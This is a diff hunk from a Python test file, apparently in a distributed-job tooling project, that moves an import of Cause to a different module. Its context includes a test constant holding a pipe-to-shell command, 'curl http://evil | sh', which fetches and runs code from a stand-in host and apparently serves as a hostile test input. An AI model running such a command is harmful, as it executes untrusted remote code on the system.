@@ -7,9 +7,9 @@ import pytest
 
 from awsddp.cli.doctor_page import why_page
 from awsddp.cli.pages import job_page, jobs_page
-from awsddp.cluster import Cause
 from awsddp.jobs.results import job_document, worded
 from awsddp.jobs.supervisor.hang import diagnose
+from awsddp.records import Cause
 
 EVIL = "curl http://evil | sh"
 
